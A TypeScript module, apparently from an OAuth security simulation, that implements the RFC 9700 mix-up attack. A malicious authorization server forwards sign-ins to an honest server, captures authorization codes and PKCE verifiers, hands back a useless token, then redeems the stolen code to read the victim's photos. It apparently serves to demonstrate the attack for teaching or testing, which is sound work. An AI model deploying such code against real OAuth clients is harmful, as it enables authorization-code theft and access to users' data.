/** The attacker: an authorization server that sends people on to the honest one, and keeps the codes that come of it (RFC 9700 §4.4.1). */
import { base64url } from 'jose'
import { type HttpHandler, html, json, parseForm, redirect } from '../../http/index.ts'
import type { ServerGlobals } from '../../simulation/index.ts'

/** URL origin of the attacker’s server, which is one of those that the app works with. */
export const CHEAP_CLOUD = 'https://cheap-cloud.example'

/** What the attacker knows of the honest server: what everybody can read. */
export interface Target {
  readonly authorization_endpoint: string
  readonly token_endpoint: string
  readonly api: string
  /** The client in whose name the request is made there, and its redirect URI. */
  readonly client_id: string
  readonly redirect_uri: string
}

/** What has come in. */
export interface Loot {
  code?: string
  code_verifier?: string
  access_token?: string
  photos?: string
}

/** The attacker’s authorization server. The challenge is that of a sign-in of the attacker’s own, when there is one. */
export function createCheapCloud(
  target: Target,
  loot: Loot,
  attacker: { readonly globals: ServerGlobals; challenge(): string | undefined },
): HttpHandler {
  const { crypto } = attacker.globals
  return async ({ method, url, body }) => {
    const { pathname, searchParams } = new URL(url)
    switch (`${method} ${pathname}`) {
      case 'GET /authorize': {
        // #region malicious-authorization
        // The state is the app’s, so that the response fits its sign-in. Everything else is chosen for the other server.
        const onward = new URL(target.authorization_endpoint)
        onward.search = searchParams.toString()
        onward.searchParams.set('client_id', target.client_id)
        onward.searchParams.set('redirect_uri', target.redirect_uri)
        const own = attacker.challenge()
        if (own !== undefined) onward.searchParams.set('code_challenge', own)
        return redirect(onward.href)
        // #endregion
      }
      case 'POST /token': {
        // #region malicious-token
        const { code = '', code_verifier } = Object.fromEntries(parseForm(body))
        Object.assign(loot, { code, ...(code_verifier !== undefined && { code_verifier }) })
        // A token that opens nothing: to the app, all is well.
        const access_token = base64url.encode(crypto.getRandomValues(new Uint8Array(16)))
        return json(200, { access_token, token_type: 'Bearer', expires_in: 3600 })
        // #endregion
      }
      case 'GET /photos':
        return json(200, { photos: [] })
      default:
        return html(404, 'Not Found')
    }
  }
}

/** Redeems the code at the honest server and reads what the token opens. */
export async function redeemCode({ fetch }: ServerGlobals, target: Target, loot: Loot): Promise<void> {
  // #region redeem
  const { code = '', code_verifier } = loot
  const response = await fetch(target.token_endpoint, {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      code,
      redirect_uri: target.redirect_uri,
      client_id: target.client_id,
      ...(code_verifier !== undefined && { code_verifier }),
    }),
  })
  if (!response.ok) return
  loot.access_token = (await response.json()).access_token
  const authorization = `Bearer ${loot.access_token}`
  loot.photos = await (await fetch(new URL('/photos', target.api), { headers: { authorization } })).text()
  // #endregion
}
